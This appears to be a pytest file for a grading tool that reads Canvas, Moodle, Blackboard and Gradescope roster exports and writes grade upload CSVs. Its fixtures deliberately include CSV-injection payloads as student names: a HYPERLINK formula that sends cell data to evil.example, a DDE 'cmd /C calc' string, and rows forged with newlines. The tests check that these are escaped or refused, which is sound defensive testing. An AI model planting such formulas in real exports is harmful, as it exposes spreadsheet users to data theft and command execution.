"""Rosters read from each LMS's own export, and the totals and upload files written back.

Each fixture is written the way its system writes it (Canvas's BOM, "Points Possible" row and
test student; Moodle's "Participant N" identifiers; Blackboard's tab-separated UTF-16 .xls;
Gradescope's staff rows). Roster values are the students' or their LMS's text: ids that the
grader could not use are refused with the row to fix, and names reach every file written as
harmless text (no formula, no forged row).
"""

import csv
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest

from grader.record.roster import (
    Roster,
    Student,
    Total,
    missing_students,
    read_roster,
    write_uploads,
)

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'

CANVAS = (
    "\ufeffStudent,ID,SIS User ID,SIS Login ID,Section,Notebooks (48211),Current Points,Final Points,"
    "Current Score,Unposted Current Score,Final Score,Unposted Final Score\n"
    ",,,,,Manual Posting,,,,,,\n"
    "    Points Possible,,,,,20.00,(read only),(read only),(read only),(read only),(read only),"
    "(read only)\n"
    '"Doe, Jane",12345,s123,jdoe,Section A,,0.00,0.00,,,0.00,0.00\n'
    '"Mallory, =HYPERLINK(""http://evil.example/?""&A1,""click"")",12346,s124,eve,Section A,,,,,,,\n'
    '"Lee, Bob\nRobert",12347,,,Section B,,,,,,,\n'
    '"Student, Test",99999,,,Section A,,,,,,,\n'
)
CANVAS_SEMICOLONS = (  # Canvas's "use semicolons" export option, with an Integration ID column
    "\ufeffStudent;ID;SIS User ID;SIS Login ID;Integration ID;Section;Notebooks, part 1 (48211)\n"
    "    Points Possible;;;;;;20,00\n"
    '"Doe, Jane";12345;s123;jdoe;int-9;"Section A";\n'
)
MOODLE = (
    '\ufeffIdentifier,"Full name","Email address",Status,Grade,"Maximum Grade","Grade can be '
    'changed","Last modified (submission)","Last modified (grade)","Feedback comments"\n'
    '"Participant 1234567","Jane Doe",jdoe@example.edu,"Submitted for grading - Not graded",,20.00,'
    'Yes,"Monday, 3 February 2025, 10:12 AM",-,\n'
    '"Participant 1234568","+Eve\r\nMallory",eve@example.edu,"No submission",,20.00,Yes,-,-,\n'
)
BLACKBOARD_COLUMNS = [
    "Last Name",
    "First Name",
    "Username",
    "Student ID",
    "Last Access",
    "Availability",
    "Weighted Total [Total Pts: up to 0] |2300455",
    "Total [Total Pts: up to 100] |2300456",
    "Notebooks [Total Pts: 20 Score] |2300457",
]
BLACKBOARD_ROWS = [
    ["Doe", "Jane", "jdoe", "s123", "2025-02-03 10:12:00", "Available", "", "", ""],
    ["@SUM(1+1)*cmd|' /C calc'!A0", "Eve", "emallory", "s124", "", "Available", "", "", ""],
]
GRADESCOPE = (
    "First Name,Last Name,SID,Email,Role,Sections\n"
    "Jane,Doe,s123,jdoe@example.edu,Student,\n"
    "Bob,Lee,,blee@example.edu,Student,Lab 1\n"
    "Ann,Prof,,aprof@example.edu,Instructor,\n"
    "Tim,Assist,,tassist@example.edu,TA,Lab 1\n"
)


def _blackboard_xls(rows: list[list[str]]) -> bytes:
    """Blackboard's "tab-delimited" download: every field quoted, CRLF, UTF-16 LE with a BOM."""
    lines = ["\t".join(f'"{v}"' for v in row) for row in [BLACKBOARD_COLUMNS, *rows]]
    return "".join(line + "\r\n" for line in lines).encode("utf-16")


def _file(tmp_path: Path, name: str, content: str | bytes) -> Path:
    path = tmp_path / name
    if isinstance(content, str):
        path.write_bytes(content.encode("utf-8"))
    else:
        path.write_bytes(content)
    return path


def _read_csv(path: Path) -> list[list[str]]:
    with path.open(newline="", encoding="utf-8") as f:
        return list(csv.reader(f))


def _refusal(path: Path) -> str:
    with pytest.raises(SystemExit) as e:
        read_roster(path)
    return str(e.value)


# ------------------------------------------------------------------------------ reading


def test_canvas_export(tmp_path):
    roster = read_roster(_file(tmp_path, "2025-02-03T1012_Grades-ML101.csv", CANVAS))
    assert roster.lms == "canvas"
    assert list(roster.students) == ["12345", "12346", "12347"], "Points Possible, posting row, test student"
    jane = roster.students["12345"]
    assert (jane.name, jane.first_name, jane.last_name) == ("Jane Doe", "Jane", "Doe")
    assert jane.lms_fields == (("SIS User ID", "s123"), ("SIS Login ID", "jdoe"), ("Section", "Section A"))
    assert roster.students["12346"].first_name == FORMULA, "names are kept as text"
    assert roster.students["12347"].name == "Bob\nRobert Lee"
    assert len(roster.notes) == 1 and "test student" in roster.notes[0] and "99999" in roster.notes[0]


def test_canvas_export_with_semicolons_and_integration_id(tmp_path):
    roster = read_roster(_file(tmp_path, "grades.csv", CANVAS_SEMICOLONS))
    assert roster.lms == "canvas"
    assert roster.students["12345"].lms_fields == (
        ("SIS User ID", "s123"),
        ("SIS Login ID", "jdoe"),
        ("Integration ID", "int-9"),
        ("Section", "Section A"),
    )


def test_moodle_worksheet(tmp_path):
    roster = read_roster(_file(tmp_path, "Grades-ML101-Notebooks-123.csv", MOODLE))
    assert roster.lms == "moodle"
    assert list(roster.students) == ["1234567", "1234568"]
    assert roster.students["1234567"] == Student("1234567", "Jane Doe", email="jdoe@example.edu")
    assert roster.students["1234568"].name == "+Eve\r\nMallory"


@pytest.mark.parametrize("form", ["tab-separated UTF-16 .xls", "comma CSV"])
def test_blackboard_grade_center(tmp_path, form):
    if form == "comma CSV":
        lines = [",".join(f'"{v}"' for v in row) for row in [BLACKBOARD_COLUMNS, *BLACKBOARD_ROWS]]
        content: str | bytes = "\ufeff" + "\r\n".join(lines) + "\r\n"
    else:
        content = _blackboard_xls(BLACKBOARD_ROWS)
    roster = read_roster(_file(tmp_path, "gc_ML101_fullgc_2025-02-03-10-12-00.xls", content))
    assert roster.lms == "blackboard"
    assert list(roster.students) == ["jdoe", "emallory"]
    assert roster.students["jdoe"] == Student("jdoe", "Jane Doe", "Jane", "Doe")
    assert roster.students["emallory"].last_name == BLACKBOARD_ROWS[1][0]


def test_gradescope_roster_keeps_students_only(tmp_path):
    roster = read_roster(_file(tmp_path, "roster.csv", GRADESCOPE))
    assert roster.lms == "gradescope"
    assert list(roster.students) == ["s123", "blee@example.edu"], "the SID, else the email"
    assert roster.students["s123"] == Student("s123", "Jane Doe", "Jane", "Doe", "jdoe@example.edu")
    assert len(roster.notes) == 2 and "Instructor" in roster.notes[0] and "TA" in roster.notes[1]


@pytest.mark.parametrize(
    "content, expected",
    [
        ("id,name,email\nalice,Alice Smith,alice@example.edu\nbob,Bob Lee,\n", ("Alice Smith", "")),
        ("student,first_name,last_name\nalice,Alice,Smith\nbob,Bob,Lee\n", ("Alice Smith", "Alice")),
        ("\ufeffID,Name\r\nalice,Alice Smith\r\nbob,Bob Lee\r\n", ("Alice Smith", "")),
    ],
)
def test_plain_roster(tmp_path, content, expected):
    roster = read_roster(_file(tmp_path, "students.csv", content))
    assert roster.lms == ""
    assert list(roster.students) == ["alice", "bob"]
    assert (roster.students["alice"].name, roster.students["alice"].first_name) == expected


def test_missing_students_in_roster_order(tmp_path):
    roster = read_roster(_file(tmp_path, "students.csv", "id,name\nc,C\na,A\nb,B\n"))
    assert [s.id for s in missing_students(roster, {"a", "zed"})] == ["c", "b"]


# ------------------------------------------------------------------------------ refusals


@pytest.mark.parametrize(
    "content, row, bad",
    [
        ("id,name\nalice,Alice\njane doe,Jane Doe\n", 3, "'jane doe'"),
        ("student,name\nalice,Alice\n-rf,Dash\n", 3, "'-rf'"),
        ('id,name\nalice,Alice\n"a\nb",AB\n', 3, "'a\\nb'"),
        ("First Name,Last Name,SID,Email,Role,Sections\nJane,Doe,s 123,j@x.edu,Student,\n", 2, "'s 123'"),
    ],
)
def test_an_id_the_grader_cannot_use_is_refused_naming_its_row(tmp_path, content, row, bad):
    message = _refusal(_file(tmp_path, "students.csv", content))
    assert f"row {row} " in message and bad in message, message
    assert "letters, digits and . _ @ + -" in message and "Fix the cell" in message


def test_blackboard_username_with_a_space_is_refused(tmp_path):
    rows = [BLACKBOARD_ROWS[0], ["Doe", "John", "john doe", "", "", "Available", "", "", ""]]
    message = _refusal(_file(tmp_path, "gc.xls", _blackboard_xls(rows)))
    assert "row 3 " in message and "'john doe'" in message, message


def test_moodle_identifier_that_is_not_a_participant_is_refused(tmp_path):
    content = MOODLE.replace('"Participant 1234568"', '"Teilnehmer/in 1234568"')
    message = _refusal(_file(tmp_path, "worksheet.csv", content))
    assert "row 3 " in message and "Participant <number>" in message, message


def test_duplicate_ids_are_named(tmp_path):
    content = "id,name\nalice,A\nbob,B\nalice,A again\ncarol,C\nbob,B again\n"
    message = _refusal(_file(tmp_path, "students.csv", content))
    assert "'alice' on rows 2, 4" in message and "'bob' on rows 3, 6" in message, message


def test_an_unknown_file_names_the_columns_found_and_expected(tmp_path):
    message = _refusal(_file(tmp_path, "students.csv", "Nom\tCourriel\n=1+1\tx@y.z\n"))
    assert "Columns found: Nom, Courriel" in message, message
    for expected in ("Student, ID", "Identifier, Full name", "Username", "SID", "id (or student)"):
        assert expected in message, message


def test_unreadable_rosters(tmp_path):
    assert "not UTF-8" in _refusal(_file(tmp_path, "latin1.csv", "id,name\nal,Al\xe9".encode("latin-1")))
    assert "empty" in _refusal(_file(tmp_path, "empty.csv", b""))
    assert "no students" in _refusal(_file(tmp_path, "staff.csv", GRADESCOPE.replace("Student,", "TA,")))
    assert "cannot read" in _refusal(tmp_path / "absent.csv")


# ------------------------------------------------------------------------------ writing


def _totals() -> list[Total]:
    return [
        Total("12345", 17.25, 20.0, "complete", (("00_warmup", 9.25), ("04_rope", 8.0))),
        Total("12346", None, 20.0, "incomplete: 04_rope failed", (("00_warmup", 10.0), ("04_rope", None))),
        Total("12347", 0.0, 20.0, "missing", (("00_warmup", None), ("04_rope", None))),
    ]


def _columns(path: Path) -> tuple[list[str], list[dict[str, str]]]:
    """The file's header, and each row as {column: value}, so that a mismatch names its column."""
    header, *rows = _read_csv(path)
    assert all(len(row) == len(header) for row in rows), f"{path.name}: a row of another width"
    return header, [dict(zip(header, row, strict=True)) for row in rows]


def _row(header: list[str], *values: str) -> dict[str, str]:
    return dict(zip(header, values, strict=True))


def test_totals_csv(tmp_path):
    roster = read_roster(_file(tmp_path, "grades.csv", CANVAS))
    written = write_uploads(tmp_path / "out", _totals(), roster, "", "Notebooks")
    assert written == [tmp_path / "out" / "totals.csv"]
    header, rows = _columns(written[0])
    assert header == ["student", "name", "email", "score", "max_score", "status", "00_warmup", "04_rope"]
    jane = dict(student="12345", name="Jane Doe", email="", score="17.25", max_score="20", status="complete")
    assert rows[0] == jane | {"00_warmup": "9.25", "04_rope": "8"}
    assert rows[1] == dict(
        student="12346",
        name="'" + FORMULA + " Mallory",  # a formula's text, never a formula
        email="",
        score="",
        max_score="20",
        status="incomplete: 04_rope failed",
    ) | {"00_warmup": "10", "04_rope": ""}
    assert rows[2]["name"] == "Bob\\nRobert Lee", "a newline in a name forges no row"
    assert (rows[2]["score"], rows[2]["status"], rows[2]["04_rope"]) == ("0", "missing", "")
    assert len(rows) == 3
    assert not list((tmp_path / "out").glob("*.partial")) and not (tmp_path / "out" / "upload").exists()


def test_canvas_upload(tmp_path):
    roster = read_roster(_file(tmp_path, "grades.csv", CANVAS))
    written = write_uploads(tmp_path / "out", _totals(), roster, "canvas", "Notebooks (48211)")
    assert written[1] == tmp_path / "out" / "upload" / "canvas.csv"
    header, rows = _columns(written[1])
    assert header == ["Student", "ID", "SIS User ID", "SIS Login ID", "Section", "Notebooks (48211)"]
    empty = dict.fromkeys(header, "")
    assert rows[0] == empty | {"Student": "    Points Possible", "Notebooks (48211)": "20"}
    fields = {"SIS User ID": "s123", "SIS Login ID": "jdoe", "Section": "Section A"}
    assert rows[1] == {"Student": "Doe, Jane", "ID": "12345", **fields, "Notebooks (48211)": "17.25"}
    fields = {"SIS User ID": "s124", "SIS Login ID": "eve", "Section": "Section A"}
    name = "Mallory, " + FORMULA  # starts with a letter: a spreadsheet reads it as text
    assert rows[2] == {"Student": name, "ID": "12346", **fields, "Notebooks (48211)": ""}, "blank: no change"
    fields = {"SIS User ID": "", "SIS Login ID": "", "Section": "Section B"}
    assert rows[3] == {"Student": "Lee, Bob\\nRobert", "ID": "12347", **fields, "Notebooks (48211)": "0"}
    assert len(rows) == 4, "the test student is not uploaded"
    # Canvas-shaped: the grader reads its own upload back as a Canvas export
    again = read_roster(written[1])
    assert [s.lms_fields for s in again.students.values()] == [s.lms_fields for s in roster.students.values()]


def test_canvas_upload_keeps_the_rosters_columns(tmp_path):
    roster = read_roster(_file(tmp_path, "grades.csv", CANVAS_SEMICOLONS))
    totals = [Total("12345", 20.0, 20.0, "complete", (("00_warmup", 20.0),))]
    header, rows = _columns(write_uploads(tmp_path / "out", totals, roster, "canvas", "Notebooks")[1])
    assert header == [
        "Student",
        "ID",
        "SIS User ID",
        "SIS Login ID",
        "Integration ID",
        "Section",
        "Notebooks",
    ]
    assert rows[1] == _row(header, "Doe, Jane", "12345", "s123", "jdoe", "int-9", "Section A", "20")


def test_canvas_upload_without_roster_takes_names_given(tmp_path):
    totals = [Total("12345", 1 / 3, 20.0, "complete", (("00_warmup", 1 / 3),))]
    names = {"12345": "@Jane Doe"}
    header, rows = _columns(write_uploads(tmp_path / "out", totals, None, "canvas", "Notebooks", names)[1])
    assert header == ["Student", "ID", "SIS User ID", "SIS Login ID", "Section", "Notebooks"]
    assert rows[1] == _row(header, "'@Jane Doe", "12345", "", "", "", "0.3333")
    assert _columns(tmp_path / "out" / "totals.csv")[1][0]["name"] == "'@Jane Doe"


def test_moodle_upload(tmp_path):
    roster = read_roster(_file(tmp_path, "worksheet.csv", MOODLE))
    totals = [
        Total("1234567", 12.5, 20.0, "complete", (("04_rope", 12.5),)),
        Total("1234568", None, 20.0, "incomplete: 04_rope needs grading by hand", (("04_rope", None),)),
    ]
    before = datetime.now(UTC).replace(microsecond=0)
    written = write_uploads(tmp_path / "out", totals, roster, "moodle", "")
    assert written[1] == tmp_path / "out" / "upload" / "moodle.csv"
    header, rows = _columns(written[1])
    assert header == [
        "Identifier",
        "Full name",
        "Email address",
        "Grade",
        "Maximum Grade",
        "Last modified (grade)",
    ]
    stamp = rows[0].pop("Last modified (grade)")
    assert rows[0] == {
        "Identifier": "Participant 1234567",
        "Full name": "Jane Doe",
        "Email address": "jdoe@example.edu",
        "Grade": "12.5",
        "Maximum Grade": "20",
    }
    assert datetime.fromisoformat(stamp).utcoffset() == timedelta(0), "a time with its offset"
    assert before <= datetime.fromisoformat(stamp) <= datetime.now(UTC)
    assert len(rows) == 1, "a student with no total is left out: Moodle keeps their grade"


def test_moodle_upload_escapes_names(tmp_path):
    roster = read_roster(_file(tmp_path, "worksheet.csv", MOODLE))
    totals = [Total("1234568", 0.0, 20.0, "missing", (("04_rope", None),))]
    _, rows = _columns(write_uploads(tmp_path / "out", totals, roster, "moodle", "")[1])
    assert (rows[0]["Identifier"], rows[0]["Full name"], rows[0]["Grade"]) == (
        "Participant 1234568",
        "'+Eve\\r\\nMallory",
        "0",
    )


@pytest.mark.parametrize(
    "title, header",
    [
        ("Notebooks", "Notebooks [Total Pts: 20 Score]"),
        ("Notebooks |2300457", "Notebooks [Total Pts: 20 Score] |2300457"),
        ("Notebooks [Total Pts: 20 Score] |2300457", "Notebooks [Total Pts: 20 Score] |2300457"),
        ("=cmd", "'=cmd [Total Pts: 20 Score]"),
    ],
)
def test_blackboard_upload(tmp_path, title, header):
    roster = read_roster(_file(tmp_path, "gc.xls", _blackboard_xls(BLACKBOARD_ROWS)))
    totals = [
        Total("jdoe", 19.5, 20.0, "complete", (("04_rope", 19.5),)),
        Total("emallory", None, 20.0, "incomplete: 04_rope failed", (("04_rope", None),)),
    ]
    written = write_uploads(tmp_path / "out", totals, roster, "blackboard", title)
    assert written[1] == tmp_path / "out" / "upload" / "blackboard.csv"
    assert _columns(written[1]) == (["Username", header], [{"Username": "jdoe", header: "19.5"}])


def test_gradescope_writes_totals_only_and_stale_uploads_go(tmp_path):
    out = tmp_path / "out"
    write_uploads(out, _totals(), None, "canvas", "Notebooks")
    assert (out / "upload" / "canvas.csv").exists()
    roster = read_roster(_file(tmp_path, "roster.csv", GRADESCOPE))
    totals = [Total("s123", 20.0, 20.0, "complete", (("04_rope", 20.0),))]
    assert write_uploads(out, totals, roster, "gradescope", "Notebooks") == [out / "totals.csv"]
    assert not list((out / "upload").iterdir()), "an upload left by an earlier run for another LMS"
    header, rows = _columns(out / "totals.csv")
    assert rows == [_row(header, "s123", "Jane Doe", "jdoe@example.edu", "20", "20", "complete", "20")]


def test_upload_for_another_lms_than_the_rosters_is_refused(tmp_path):
    roster = read_roster(_file(tmp_path, "grades.csv", CANVAS))
    with pytest.raises(SystemExit, match="Canvas roster"):
        write_uploads(tmp_path / "out", _totals(), roster, "moodle", "Notebooks")
    plain = Roster({"12345": Student("12345", "Jane Doe")}, "", tmp_path / "students.csv")
    header, rows = _columns(write_uploads(tmp_path / "out", _totals()[:1], plain, "canvas", "Notebooks")[1])
    assert rows[1] == _row(header, "Jane Doe", "12345", "", "", "", "17.25")
    with pytest.raises(ValueError, match="title"):
        write_uploads(tmp_path / "out", _totals(), None, "canvas", " ")
